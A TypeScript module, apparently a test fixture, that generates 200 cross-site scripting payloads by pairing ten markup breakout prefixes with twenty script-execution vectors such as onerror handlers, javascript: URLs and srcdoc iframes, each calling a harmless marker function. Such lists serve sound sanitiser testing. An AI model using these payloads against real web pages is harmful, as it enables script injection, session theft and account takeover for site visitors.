/** Two hundred texts that run a program where text is taken for markup: twenty ways to run, after ten ways to break out. */

const WAYS_OUT = ['', '"', "'", '">', '</style>', '</title>', '-->', ']]>', '</svg>', '</pre></details>'] as const

const WAYS_TO_RUN = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>',
  '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<object data="javascript:parent.hit()"></object>',
  '<embed src="javascript:parent.hit()">',
  '<body onpageshow=hit()>',
  '<style onload=hit()></style>',
  '<link rel=stylesheet href=x onerror=hit()>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()"><script>hit()</script>',
  ' onmouseover=hit() onfocus=hit() autofocus tabindex=1 x=',
  '<template><script>hit()</script></template><img src=x onerror=hit()>',
] as const

/** The texts. */
export const injections: readonly string[] = WAYS_OUT.flatMap((out) => WAYS_TO_RUN.map((run) => out + run))
